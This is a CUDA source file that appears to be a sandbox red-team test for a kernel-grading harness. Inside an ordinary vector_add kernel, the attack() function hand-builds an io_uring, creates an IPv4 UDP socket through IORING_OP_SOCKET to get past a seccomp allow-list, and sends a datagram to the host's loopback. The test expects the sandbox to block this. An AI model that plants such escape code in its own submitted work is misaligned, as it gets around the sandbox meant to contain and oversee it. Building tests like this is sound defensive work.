// expect: passed
// task: vector_add
// flags: --no-time
// modes: eval
// threat: escape to the host
// mechanism: seccomp allow-list: no io_uring (its operations never pass seccomp's filter; its socket operation makes the IPv4 socket seccomp refuses to `socket`, and Landlock does not cover UDP)
// why: sets up an io_uring by hand, makes an IPv4 UDP socket with IORING_OP_SOCKET and sends a datagram to a socket the test holds on the host's loopback; then computes the right answer: io_uring must be refused and no datagram may arrive
#include <cuda_runtime.h>
#include <stdio.h>
#include <linux/io_uring.h>
#include <netinet/in.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>
static int breached = 0;
// An attack that got through says so where a verdict shows it (the end of the process's
// output, kept with a rejection) and spoils the answer, so the verdict cannot pass.
static void breach(const char* what) {
  fprintf(stderr, "REDTEAM-BREACH: %s\n", what);
  fflush(stderr);
  breached = 1;
}
__global__ void add(const float* a, const float* b, float* c, int n) {
  int i = blockIdx.x * blockDim.x + threadIdx.x;
  if (i < n) c[i] = a[i] + b[i];
}
__global__ void spoil(float* c) { c[0] += 1.0f; }
#define NIGHTSHIFT_UDP_PORT 9  // the test writes its socket's port here
static void attack() {
  io_uring_params p;
  memset(&p, 0, sizeof p);
  int ring = (int)syscall(__NR_io_uring_setup, 8, &p);
  if (ring < 0) return;
  breach("io_uring_setup worked");
  size_t sq_len = p.sq_off.array + p.sq_entries * sizeof(unsigned);
  size_t cq_len = p.cq_off.cqes + p.cq_entries * sizeof(io_uring_cqe);
  bool single = p.features & IORING_FEAT_SINGLE_MMAP;
  if (single) sq_len = cq_len = sq_len > cq_len ? sq_len : cq_len;
  char* sq = (char*)mmap(0, sq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQ_RING);
  char* cq = single ? sq : (char*)mmap(0, cq_len, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_CQ_RING);
  io_uring_sqe* sqes = (io_uring_sqe*)mmap(0, p.sq_entries * sizeof(io_uring_sqe), PROT_READ | PROT_WRITE,
                                           MAP_SHARED | MAP_POPULATE, ring, IORING_OFF_SQES);
  if (sq == MAP_FAILED || cq == MAP_FAILED || (void*)sqes == MAP_FAILED) return;
  unsigned tail = *(unsigned*)(sq + p.sq_off.tail);
  unsigned idx = tail & *(unsigned*)(sq + p.sq_off.ring_mask);
  memset(&sqes[idx], 0, sizeof sqes[idx]);
  sqes[idx].opcode = 45;  // IORING_OP_SOCKET (Linux 5.19)
  sqes[idx].fd = AF_INET;
  sqes[idx].off = SOCK_DGRAM;
  ((unsigned*)(sq + p.sq_off.array))[idx] = idx;
  __atomic_store_n((unsigned*)(sq + p.sq_off.tail), tail + 1, __ATOMIC_RELEASE);
  syscall(__NR_io_uring_enter, ring, 1, 1, IORING_ENTER_GETEVENTS, NULL, 0);
  unsigned head = __atomic_load_n((unsigned*)(cq + p.cq_off.head), __ATOMIC_ACQUIRE);
  io_uring_cqe* cqe = (io_uring_cqe*)(cq + p.cq_off.cqes) + (head & *(unsigned*)(cq + p.cq_off.ring_mask));
  if (cqe->res >= 0) {
    sockaddr_in u{};
    u.sin_family = AF_INET;
    u.sin_port = htons(NIGHTSHIFT_UDP_PORT);
    u.sin_addr.s_addr = htonl(0x7f000001);
    if (sendto(cqe->res, "x", 1, 0, (sockaddr*)&u, sizeof u) == 1) breach("sent a UDP datagram from a socket io_uring made");
  }
}
extern "C" void vector_add(const float* a, const float* b, float* c, int n, cudaStream_t s) {
  static bool once = false;
  if (!once) {
    once = true;
    attack();
  }
  if (n > 0) add<<<(n + 255) / 256, 256, 0, s>>>(a, b, c, n);
  if (breached && n > 0) spoil<<<1, 1, 0, s>>>(c);
}
